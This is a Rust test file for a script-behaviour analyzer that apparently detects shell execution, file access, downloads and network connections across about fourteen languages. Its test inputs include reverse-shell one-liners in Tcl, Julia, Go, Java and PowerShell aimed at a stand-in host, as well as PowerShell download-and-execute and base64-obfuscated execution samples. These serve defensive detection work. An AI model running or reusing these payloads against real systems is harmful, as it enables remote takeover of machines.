//! The remaining languages.

use super::check;
use aegish_profiles::Lang;

#[test]
fn tcl_and_expect() {
    check(
        Lang::Tcl,
        &[
            ("exec ls -l", &["argv ls|-l"]),
            ("puts [exec sh -c {cat /etc/hosts}]", &["argv sh|-c|cat /etc/hosts"]),
            ("exec ls | wc -l", &["argv ls", "argv wc|-l"]),
            ("set c id; exec $c", &["argv id"]),
            ("set c i; append c d; exec $c", &["argv id"]),
            ("exec [string reverse di]", &["argv id"]),
            ("exec sh -c [binary decode base64 aWQ=]", &["argv sh|-c|id"]),
            ("eval {exec id}", &["argv id"]),
            ("if {1} { exec id }", &["argv id"]),
            ("set f [open /etc/hosts]; puts [read $f]", &["read /etc/hosts"]),
            ("set f [open /tmp/x w]; puts $f DATA", &["write /tmp/x <- DATA"]),
            ("open \"|ls -l\"", &["argv ls|-l"]),
            ("load ./x.so y", &["load ./x.so"]),
            ("source /srv/x.tcl", &["script tcl /srv/x.tcl"]),
            ("file delete -force /srv/x", &["tree /srv/x"]),
            (
                "set s [socket h.example 99];while 1 { puts -nonewline $s \"> \";flush $s;gets $s c;set e \"exec $c\";if {![catch {set r [eval $e]} err]} { puts $s $r }; flush $s; }; close $s;",
                &["connect h.example 99", "received"],
            ),
            (
                "set s [socket $::env(PEER) $::env(PORT)]; exec sh <@$s >@$s",
                &["connect peer.example 7001", "attach", "argv sh"],
            ),
            ("puts {exec rm}", &[]),
            ("# exec rm", &[]),
            ("puts hello", &[]),
            ("set x [expr {1 + 2}]", &[]),
        ],
    );
    check(
        Lang::Expect,
        &[
            ("spawn /bin/sh;interact", &["argv /bin/sh"]),
            ("spawn sh\nsend \"id\\r\"", &["argv sh", "shell id"]),
            (
                "spawn ssh h.example\nexpect \"password\"\nsend \"x\\r\"\ninteract",
                &["argv ssh|h.example"],
            ),
        ],
    );
}

#[test]
fn scheme_and_emacs() {
    check(
        Lang::Scheme,
        &[
            ("(system \"/bin/sh\")", &["shell /bin/sh"]),
            ("(system* \"ls\" \"-l\")", &["argv ls|-l"]),
            ("(define c (string-append \"i\" \"d\")) (system c)", &["shell id"]),
            ("(let ((c \"id\")) (system c))", &["shell id"]),
            ("(display (call-with-input-file \"/etc/hosts\" read-string))", &["read /etc/hosts"]),
            ("(delete-file \"/tmp/x\")", &["delete /tmp/x"]),
            ("(display \"(system 1)\")", &["print (system 1)"]),
            ("; (system \"x\")", &[]),
            ("'(system \"x\")", &[]),
            ("(eval '(system \"id\"))", &["shell id"]),
        ],
    );
    check(
        Lang::Emacs,
        &[
            ("(term \"/bin/sh\")", &["shell /bin/sh"]),
            ("(shell-command \"id\")", &["shell id"]),
            ("(call-process \"ls\" nil t nil \"-l\")", &["argv ls|-l"]),
            ("(start-process \"n\" \"b\" \"sh\" \"-c\" \"id\")", &["argv sh|-c|id"]),
            ("(princ (shell-command-to-string (concat \"i\" \"d\")))", &["shell id"]),
            (
                "(with-temp-buffer (insert-file-contents \"/etc/hosts\") (princ (buffer-string)))",
                &["read /etc/hosts"],
            ),
            ("(write-region \"DATA\" nil \"/tmp/x\")", &["write /tmp/x <- DATA"]),
            ("(delete-directory \"/srv/x\" t)", &["tree /srv/x"]),
            ("(load-file \"/srv/x.el\")", &["script emacs /srv/x.el"]),
            ("(message \"hi\")", &["print hi\n"]),
            ("(setq x 1)", &[]),
        ],
    );
}

#[test]
fn r_julia_octave() {
    check(
        Lang::R,
        &[
            ("system(\"/bin/sh\")", &["shell /bin/sh"]),
            ("system2('ls', c('-l', '/'))", &["argv ls|-l|/"]),
            ("base::system('id')", &["shell id"]),
            ("x <- paste0('i', 'd'); system(x)", &["shell id"]),
            ("system(paste('ls', '-l'))", &["shell ls -l"]),
            ("eval(parse(text='system(\"id\")'))", &["eval r system(\"id\")"]),
            (
                "download.file('http://h.example/x', '/tmp/x')",
                &["fetch http://h.example/x -> /tmp/x"],
            ),
            ("source('/srv/x.R')", &["script r /srv/x.R"]),
            ("cat(readLines('/etc/hosts'))", &["read /etc/hosts"]),
            ("unlink('/tmp/x')", &["delete /tmp/x"]),
            ("dyn.load('./x.so')", &["load ./x.so"]),
            ("print(summary(cars))", &[]),
            ("x <- read.csv('data.csv'); mean(x$exec)", &["read data.csv"]),
            ("# system('x')", &[]),
        ],
    );
    check(
        Lang::Julia,
        &[
            ("run(`/bin/sh -p`)", &["argv /bin/sh|-p"]),
            ("c = \"id\"; run(`$c -u`)", &["argv id|-u"]),
            ("read(`ls -l`, String)", &["argv ls|-l"]),
            ("print(open(f->read(f, String), ENV[\"TARGET\"]))", &["read /srv/data.bin"]),
            ("open(f->write(f, \"DATA\"), \"/tmp/x\", \"w\")", &["write /tmp/x <- DATA"]),
            ("download(ENV[\"LINK\"], \"/tmp/x\")", &["fetch http://peer.example/tool -> /tmp/x"]),
            ("eval(Meta.parse(\"1+1\"))", &["eval julia 1+1"]),
            ("include(\"/srv/x.jl\")", &["script julia /srv/x.jl"]),
            (
                "using Sockets; sock=connect(\"h.example\", 99); while true; cmd = readline(sock); if !isempty(cmd); cmd = split(cmd); run(pipeline(`$cmd`, stdout=ioo)); end; end;",
                &["connect h.example 99", "received"],
            ),
            ("println(\"run(`x`)\")", &["print run(`x`)\n"]),
            ("println(1 + 1)", &["print 2\n"]),
            ("using Pkg; Pkg.status()", &[]),
        ],
    );
    check(
        Lang::Octave,
        &[
            ("system(\"/bin/sh\")", &["shell /bin/sh"]),
            (
                "fid = fopen('/tmp/x', 'w'); fputs(fid, 'DATA'); fclose(fid);",
                &["write /tmp/x <- DATA"],
            ),
            (
                "fid = fopen(\"/etc/hosts\"); while(!feof(fid)); txt = fgetl(fid); disp(txt); endwhile;",
                &["read /etc/hosts"],
            ),
            ("x = A'; y = x'; disp('system(1)')", &["print system(1)\n"]),
            ("eval('x=1')", &["eval octave x=1"]),
            ("% system('x')", &[]),
        ],
    );
}

#[test]
fn go_java_groovy() {
    check(
        Lang::Go,
        &[
            (
                "package main\nimport \"os/exec\"\nfunc main(){ exec.Command(\"ls\", \"-l\").Run() }",
                &["argv ls|-l"],
            ),
            (
                "package main\nimport \"syscall\"\nfunc main(){\n\tsyscall.Exec(\"/bin/sh\", []string{\"/bin/sh\", \"-i\"}, []string{})\n}",
                &["argv /bin/sh|-i"],
            ),
            (
                "package main\nimport (\n\"fmt\"\n\"os\"\n)\nfunc main(){ b, _ := os.ReadFile(\"/etc/hosts\"); fmt.Print(string(b)) }",
                &["read /etc/hosts"],
            ),
            (
                "func main(){ f, _ := os.OpenFile(\"/tmp/x\", os.O_RDWR|os.O_CREATE, 0644)\n f.Write([]byte(\"DATA\")) }",
                &["write /tmp/x <- DATA"],
            ),
            (
                "func main(){c,_:=net.Dial(\"tcp\",\"h.example:99\");cmd:=exec.Command(\"/bin/sh\");cmd.Stdin=c;cmd.Stdout=c;cmd.Run()}",
                &["connect h.example 99", "argv /bin/sh", "attach"],
            ),
            ("func main(){ os.RemoveAll(\"/srv/x\") }", &["tree /srv/x"]),
            ("func main(){ fmt.Println(\"exec.Command\") }", &["print exec.Command\n"]),
        ],
    );
    check(
        Lang::Java,
        &[
            ("Runtime.getRuntime().exec(\"ls -l\");", &["argv ls|-l"]),
            ("new ProcessBuilder(\"sh\", \"-c\", \"id\").start();", &["argv sh|-c|id"]),
            (
                "Runtime r = Runtime.getRuntime(); Process p = r.exec(new String[]{\"sh\",\"-c\",\"id\"});",
                &["argv sh|-c|id"],
            ),
            ("String x = Files.readString(Path.of(\"/etc/hosts\"));", &["read /etc/hosts"]),
            (
                "Process p=new ProcessBuilder(\"sh\").redirectErrorStream(true).start();Socket s=new Socket(\"h.example\",99);InputStream si=s.getInputStream();OutputStream po=p.getOutputStream();po.write(si.read());",
                &["argv sh", "connect h.example 99", "attach"],
            ),
            ("System.out.println(\"Runtime.exec\");", &["print Runtime.exec\n"]),
        ],
    );
    check(
        Lang::Groovy,
        &[
            ("\"id\".execute()", &["argv id"]),
            ("println \"ls -l\".execute().text", &["argv ls|-l"]),
            ("['sh','-c','id'].execute()", &["argv sh|-c|id"]),
            ("def c = 'id'; \"${c} -u\".execute()", &["argv id|-u"]),
            ("println new File('/etc/hosts').getText()", &["read /etc/hosts"]),
            ("println 'execute'", &["print execute\n"]),
        ],
    );
}

#[test]
fn elixir_erlang() {
    check(
        Lang::Elixir,
        &[
            ("System.cmd(\"ls\", [\"-l\"])", &["argv ls|-l"]),
            ("System.cmd \"ls\", [\"-l\"]", &["argv ls|-l"]),
            ("System.shell(\"id\")", &["shell id"]),
            (":os.cmd('id')", &["shell id"]),
            ("\"id\" |> String.to_charlist |> :os.cmd", &["shell id"]),
            ("c = \"id\"; System.shell(\"#{c} -u\")", &["shell id -u"]),
            ("IO.puts File.read!(\"/etc/hosts\")", &["read /etc/hosts"]),
            ("File.rm_rf!(\"/srv/x\")", &["tree /srv/x"]),
            ("Code.eval_string(\"1+1\")", &["eval elixir 1+1"]),
            ("IO.puts \"System.cmd\"", &["print System.cmd\n"]),
            ("IO.puts(1 + 1)", &["print 2\n"]),
        ],
    );
    check(
        Lang::Erlang,
        &[
            ("os:cmd(\"id\").", &["shell id"]),
            ("io:format(\"~s\", [os:cmd(\"id\")]).", &["shell id"]),
            ("file:read_file(\"/etc/hosts\").", &["read /etc/hosts"]),
            ("open_port({spawn, \"ls -l\"}, []).", &["argv ls|-l"]),
            ("% os:cmd(\"x\")", &[]),
        ],
    );
}

#[test]
fn powershell_and_osascript() {
    check(
        Lang::Powershell,
        &[
            ("ls -la", &["argv ls|-la"]),
            (
                "IEX (New-Object Net.WebClient).DownloadString('http://h.example/x')",
                &["fetch http://h.example/x", "received"],
            ),
            ("iex (iwr http://h.example/x)", &["fetch http://h.example/x", "received"]),
            ("iwr http://h.example/x | iex", &["fetch http://h.example/x", "received"]),
            (
                "Invoke-WebRequest -Uri http://h.example/x -OutFile /tmp/x",
                &["fetch http://h.example/x -> /tmp/x"],
            ),
            ("\"DATA\" | Out-File /tmp/x", &["write /tmp/x <- DATA"]),
            ("Get-Content /etc/hosts", &["read /etc/hosts"]),
            ("Remove-Item -Recurse -Force /srv/x", &["tree /srv/x"]),
            ("Start-Process sh -ArgumentList '-i'", &["argv sh|-i"]),
            ("& '/bin/sh' -i", &["argv /bin/sh|-i"]),
            ("$c = 'i' + 'd'; iex $c", &["eval powershell id"]),
            ("[System.IO.File]::ReadAllText('/etc/hosts')", &["read /etc/hosts"]),
            (
                "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aWQ=')))",
                &["eval powershell id"],
            ),
            (
                "$c = New-Object System.Net.Sockets.TCPClient('h.example',99);$s = $c.GetStream();[byte[]]$b = 0..65535|%{0};while(($i = $s.Read($b, 0, $b.Length)) -ne 0){$d = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($b,0,$i);$r = (iex $d 2>&1 | Out-String )}",
                &["connect h.example 99", "received"],
            ),
            ("Write-Host 'iex'", &[]),
            ("# iex x", &[]),
            ("$PSVersionTable", &[]),
        ],
    );
    check(
        Lang::Osascript,
        &[
            ("do shell script \"id\"", &["shell id"]),
            ("do shell script \"id\" with administrator privileges", &["shell id"]),
            ("tell application \"Terminal\" to do script \"id\"", &["shell id"]),
            ("var a = Application.currentApplication(); a.doShellScript(\"id\")", &["shell id"]),
            ("display dialog \"do shell script\"", &[]),
            ("-- do shell script \"x\"", &[]),
        ],
    );
}
